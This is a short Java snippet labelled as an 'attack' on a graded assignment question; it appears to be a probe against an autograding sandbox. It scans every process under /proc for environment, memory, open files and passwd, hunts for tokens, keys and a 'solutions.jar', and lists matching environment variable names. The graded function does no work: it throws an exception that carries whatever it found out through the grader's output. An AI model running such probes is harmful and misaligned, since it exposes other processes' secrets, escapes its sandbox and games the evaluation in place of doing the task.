// attack: looks into every process that /proc shows: environment, files, memory, root
// slow: yes
// assignment: 03-loss-math
// question: which-formula
// notebook: probes-1
// earns: 0
// reason: READ of others: \[\]
StringBuilder seen = new StringBuilder();
String mine = "/proc/" + ProcessHandle.current().pid();
try (var processes = java.nio.file.Files.newDirectoryStream(java.nio.file.Path.of("/proc"), "[0-9]*")) {
    for (var process : processes) {
        for (String name : new String[] {"environ", "cmdline", "maps", "mountinfo", "root/etc/passwd", "root/old/etc/passwd", "cwd/pom.xml", "fd/0", "mem"}) {
            try {
                String text = java.nio.file.Files.readString(process.resolve(name));
                if (text.contains("{{token}}") || text.contains("MAVEN") || text.contains("root:x:") || text.contains("solutions.jar") || text.contains("surefire")) {
                    seen.append("READ " + name + " ");
                }
            } catch (Exception | Error refused) {
            }
        }
    }
}
String all = seen + "READ of others: " + System.getenv().keySet().stream().filter(k -> k.matches("PATH|USER|JAVA_HOME|MAVEN.*|SUREFIRE.*|.*TOKEN.*|.*KEY.*")).toList();
Formula whichFormula(double[] y, double[] p, double printed, int decimals) {
    throw new IllegalStateException(all);
}
